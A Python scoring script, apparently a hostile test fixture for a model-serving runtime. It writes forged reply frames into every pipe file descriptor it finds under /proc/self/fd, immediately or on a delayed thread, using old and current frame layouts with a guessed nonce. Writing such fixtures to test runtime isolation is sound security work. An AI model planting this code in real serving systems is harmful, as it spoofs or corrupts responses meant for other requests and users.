# A hostile score.py: it forges reply frames into every pipe it can write to,
# as the runtime's own worker would write them (the pre-issue-7 layout, and the
# current one with a guessed nonce and request id). {"forge": true} forges
# during run(); {"forge_later": S} forges S seconds after run() returned, so
# the frame lands while the worker is idle or serving another request.
import json
import os
import stat
import struct
import threading
import time


def init():
    pass


def frames():
    body = json.dumps({"client": "forged"}).encode()
    old = struct.pack(">I", len(body) + 1) + b"O" + body
    guess = os.urandom(16) + struct.pack(">Q", 1) + body
    new = struct.pack(">I", len(guess) + 1) + b"O" + guess
    return old + new


def forge():
    data = frames()
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if fd > 2 and stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


def later(seconds):
    time.sleep(seconds)
    forge()


def run(raw_data):
    data = json.loads(raw_data)
    if data.get("forge"):
        forge()
    if data.get("forge_later"):
        threading.Thread(target=later, args=(data["forge_later"],), daemon=True).start()
    return {"client": data["client"]}
